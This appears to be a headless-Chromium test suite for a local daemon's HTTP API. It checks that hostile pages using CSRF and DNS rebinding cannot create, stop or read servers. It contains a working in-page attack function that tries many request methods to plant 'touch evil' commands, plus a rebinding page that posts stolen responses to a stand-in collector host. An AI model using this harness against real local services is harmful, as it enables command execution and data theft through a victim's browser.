// Pages in a real browser try to make the daemon do something. Run by `make test-browser`, which brings Chromium.
//
// Every name leads to this machine, as the attacker of a DNS rebinding would have it. What a page can do is not what it is
// shown: so after each attack the servers are counted and the files that a command would have made are looked for.

import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { test } from 'node:test';

const TOKEN = 'browser-test-token';
const CHROMIUM = process.env.CHROMIUM ?? 'chromium';
// A page gives up on what never answers.
const PATIENCE_MS = 5_000;

class Daemon {
  static async start(options = [], port = 0) {
    const daemon = new Daemon();
    daemon.scratch = mkdtempSync(join(tmpdir(), 'servisor-browser-'));
    const auth = options.includes('--no-auth') ? {} : { SERVISOR_ACCESS_TOKEN: TOKEN };
    daemon.process = spawn(
      process.env.SERVISOR_BIN,
      ['serve', '--listen', `127.0.0.1:${port}`, '--root', daemon.scratch, '--state-dir', join(daemon.scratch, '.state'), ...options],
      { env: { PATH: process.env.PATH, ...auth }, stdio: ['ignore', 'ignore', 'pipe'] },
    );
    for await (const line of createInterface({ input: daemon.process.stderr })) {
      const found = /listening on http:\/\/[^:]*:(\d+)/.exec(line);
      if (found) {
        daemon.port = Number(found[1]);
        break;
      }
    }
    daemon.process.stderr.resume();
    assert.equal((await daemon.api('POST', '/servers', { slug: 'app', start: 'exec sleep 600' })).status, 201);
    daemon.pid = (await daemon.list())[0].pid;
    return daemon;
  }

  api(method, path, body) {
    return fetch(`http://127.0.0.1:${this.port}${path}`, {
      method,
      headers: { Authorization: `Bearer ${TOKEN}`, 'Content-Type': 'application/json' },
      body: body && JSON.stringify(body),
    });
  }

  async list() {
    return (await (await this.api('GET', '/servers')).json()).data.servers;
  }

  /** Nothing was started, stopped or restarted. */
  async assertUntouched() {
    const servers = await this.list();
    assert.deepEqual(servers.map((server) => server.slug), ['app']);
    assert.equal(servers[0].pid, this.pid);
    assert.deepEqual(readdirSync(this.scratch).filter((name) => name.startsWith('evil')), []);
  }

  async end() {
    this.process.kill('SIGTERM');
    await once(this.process, 'exit');
    rmSync(this.scratch, { recursive: true, force: true });
  }
}

/** Runs in the page: every way to send something, at every name of the target. Returns what it could read. */
async function attack(targets, patience) {
  const read = [];
  let number = 0;
  const spec = () => JSON.stringify({ slug: `evil${number}`, start: `touch evil${(number += 1)}` });
  const limited = (promise) =>
    Promise.race([promise, new Promise((done) => setTimeout(done, patience))]).catch(() => undefined);
  const look = async (what, url, options) => {
    const answer = await limited(fetch(url, options));
    const text = answer && answer.type !== 'opaque' ? await limited(answer.text()) : undefined;
    if (text !== undefined) read.push(`${what} ${url}: ${answer.status} ${text.slice(0, 200)}`);
  };
  for (const target of targets) {
    const servers = `${target}/servers`;
    await look('simple', servers, { method: 'POST', body: spec() });
    await look('simple, not to be read', servers, { method: 'POST', mode: 'no-cors', body: spec() });
    await look('with cookies', servers, { method: 'POST', credentials: 'include', body: spec() });
    await look('json', servers, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: spec() });
    await look('a guess', servers, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Authorization: 'Bearer guess' },
      body: spec(),
    });
    const blob = new Blob([spec()], { type: 'text/plain' });
    navigator.sendBeacon(servers, blob);
    for (const path of ['/servers/app/stop', '/servers/app/restart', '/servers/app/start']) {
      await look('command', target + path, { method: 'POST', mode: 'no-cors' });
      await look('command', target + path, { method: 'POST', credentials: 'include' });
    }
    await look('delete', `${target}/servers/app`, { method: 'DELETE' });
    await look('mark', `${target}/servers/app/status`, { method: 'PATCH', body: '{"status":"ready"}' });
    await look('list', servers, {});
    await look('logs', `${target}/servers/app/logs`, { credentials: 'include' });
    for (const [enctype, name, value] of [
      ['text/plain', spec().slice(0, -1) + ',"x":"', '"}'],
      ['application/x-www-form-urlencoded', 'slug', 'evil'],
      ['multipart/form-data', 'slug', 'evil'],
    ]) {
      const frame = Object.assign(document.createElement('iframe'), { name: `f${(number += 1)}` });
      const form = Object.assign(document.createElement('form'), { method: 'POST', action: servers, enctype, target: frame.name });
      form.append(Object.assign(document.createElement('input'), { name, value }));
      document.body.append(frame, form);
      const loaded = new Promise((done) => (frame.onload = done));
      form.submit();
      await limited(loaded);
    }
    await limited(
      new Promise((done) => {
        const socket = new WebSocket(`${servers.replace('http', 'ws')}`);
        socket.onopen = () => {
          read.push(`websocket ${servers}`);
          socket.send(spec());
          done();
        };
        socket.onerror = done;
      }),
    );
    for (const kind of ['img', 'script']) {
      const element = Object.assign(document.createElement(kind), { src: servers });
      const loaded = new Promise((done) => (element.onload = element.onerror = done));
      document.body.append(element);
      await limited(loaded);
    }
  }
  return read;
}

/** Serves a page that runs what `script` gives, and takes what it reports. */
async function pages(script) {
  let reported;
  const report = new Promise((done) => (reported = done));
  const server = createServer((request, response) => {
    response.setHeader('Connection', 'close');
    response.setHeader('Access-Control-Allow-Origin', '*');
    if (request.method !== 'POST') {
      response.setHeader('Content-Type', 'text/html');
      response.end(`<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,"><body><script type="module">${script()}</script>`);
      return;
    }
    let body = '';
    request.on('data', (piece) => (body += piece));
    request.on('end', () => {
      response.end();
      reported(JSON.parse(body));
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { port: server.address().port, report, server };
}

async function browse(url, report) {
  const profile = mkdtempSync(join(tmpdir(), 'servisor-chromium-'));
  const browser = spawn(
    CHROMIUM,
    [
      '--headless=new', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--no-first-run', '--disable-background-networking',
      '--disable-component-update', '--disable-sync', `--user-data-dir=${profile}`, '--host-resolver-rules=MAP * 127.0.0.1', url,
    ],
    { stdio: 'ignore', detached: true },
  );
  try {
    const limit = new Promise((_, fail) => setTimeout(fail, 120_000, new Error(`${url} has reported nothing`)).unref());
    return await Promise.race([report, limit]);
  } finally {
    browser.kill('SIGTERM');
    await once(browser, 'exit');
    try {
      // Its helpers outlive it for a moment, and would still write into the profile.
      process.kill(-browser.pid, 'SIGKILL');
    } catch (error) {
      assert.equal(error.code, 'ESRCH');
    }
    rmSync(profile, { recursive: true, force: true, maxRetries: 10 });
  }
}

const targetsOf = (port) => ['127.0.0.1', 'localhost', 'evil.example'].map((name) => `http://${name}:${port}`);

const attacker = (targets) => () =>
  `const read = await (${attack})(${JSON.stringify(targets)}, ${PATIENCE_MS});
   await fetch('/report', { method: 'POST', body: JSON.stringify(read) });`;

for (const options of [[], ['--no-auth'], ['--no-auth', '--allow-origin', 'http://allowed.example:1'], ['--allow-origin', 'http://allowed.example:1']]) {
  test(`a page of another site does nothing and reads nothing: serve ${options.join(' ')}`, async () => {
    const daemon = await Daemon.start(options);
    const page = await pages(attacker(targetsOf(daemon.port)));
    try {
      const read = await browse(`http://evil.example:${page.port}/`, page.report);
      assert.deepEqual(read, []);
      await daemon.assertUntouched();
    } finally {
      page.server.close();
      await daemon.end();
    }
  });
}

// Each dev server's page is an origin of some localhost port, to a browser the same site as the API.
for (const host of ['web.localhost', 'localhost', '127.0.0.1']) {
  test(`a page of a managed server at ${host} stops no other server: serve --no-auth`, async () => {
    const daemon = await Daemon.start(['--no-auth']);
    const page = await pages(attacker(targetsOf(daemon.port)));
    try {
      const read = await browse(`http://${host}:${page.port}/`, page.report);
      assert.deepEqual(read, []);
      await daemon.assertUntouched();
    } finally {
      page.server.close();
      await daemon.end();
    }
  });
}

test('the same page does what it likes where it is let in, so the attack is one', async () => {
  const page = await pages(() => attacker(targetsOf(daemon.port))());
  const daemon = await Daemon.start(['--no-auth', '--allow-origin', `http://evil.example:${page.port}`]);
  try {
    const read = await browse(`http://evil.example:${page.port}/`, page.report);
    assert.ok(read.some((line) => line.startsWith('json http://127.0.0.1') && line.includes(' 201 ')), read.join('\n'));
    await assert.rejects(daemon.assertUntouched());
    assert.ok(readdirSync(daemon.scratch).some((name) => name.startsWith('evil')));
  } finally {
    page.server.close();
    await daemon.end();
  }
});

for (const options of [['--no-auth'], []]) {
  test(`a page whose name was bound to the daemon does nothing: serve ${options.join(' ')}`, async () => {
    // The page and the daemon have the same origin: when the page has come, the daemon takes the port over.
    const collector = await pages(() => '');
    const page = await pages(() => `
      while (!(await fetch('/health').then((answer) => answer.headers.get('content-type')).catch(() => '')).includes('json'))
        await new Promise((done) => setTimeout(done, 50));
      const read = await (${attack})([location.origin], ${PATIENCE_MS});
      await fetch('http://collector.example:${collector.port}/', { method: 'POST', mode: 'no-cors', body: JSON.stringify(read) });
    `);
    let daemon;
    const seen = once(page.server, 'request');
    const takeOver = async () => {
      await seen;
      await new Promise((done) => setTimeout(done, 500));
      await new Promise((done) => page.server.close(done));
      daemon = await Daemon.start(options, page.port);
    };
    try {
      const [read] = await Promise.all([browse(`http://evil.example:${page.port}/`, collector.report), takeOver()]);
      // It may read that it was refused, and nothing else.
      assert.ok(read.length > 0);
      for (const line of read) assert.match(line, / (401|403|415) \{"status":"error"/);
      await daemon.assertUntouched();
    } finally {
      collector.server.close();
      await daemon?.end();
    }
  });
}

for (const [options, headers] of [
  [[], { Authorization: `Bearer ${TOKEN}` }],
  [['--no-auth'], {}],
]) {
  test(`the allowed page uses the API, another one does not: serve ${options.join(' ')} --allow-origin`, async () => {
    const use = (port) => `
      const base = 'http://127.0.0.1:${port}';
      const headers = ${JSON.stringify({ 'Content-Type': 'application/json', ...headers })};
      const said = [];
      const ask = async (method, path, body) => {
        const answer = await fetch(base + path, { method, headers, body: body && JSON.stringify(body) }).catch(() => undefined);
        said.push(answer ? answer.status : 'nothing');
      };
      await ask('POST', '/servers', { slug: 'made', start: 'exec sleep 600' });
      await ask('GET', '/servers/made');
      await ask('POST', '/servers/made/stop');
      await ask('DELETE', '/servers/made');
      await ask('GET', '/servers/made');
      await fetch('/report', { method: 'POST', body: JSON.stringify(said) });
    `;
    // The page has to know the daemon's port, and the daemon the page's.
    let script = '';
    const [allowed, other] = [await pages(() => script), await pages(() => script)];
    const daemon = await Daemon.start([...options, '--allow-origin', `http://allowed.example:${allowed.port}`]);
    script = use(daemon.port);
    try {
      assert.deepEqual(await browse(`http://allowed.example:${allowed.port}/`, allowed.report), [201, 200, 200, 204, 404]);
      assert.deepEqual(await browse(`http://allowed.example:${other.port}/`, other.report), Array(5).fill('nothing'));
      await daemon.assertUntouched();
    } finally {
      allowed.server.close();
      other.server.close();
      await daemon.end();
    }
  });
}

assert.ok(existsSync(process.env.SERVISOR_BIN ?? ''), 'SERVISOR_BIN has to be the daemon: use make test-browser');
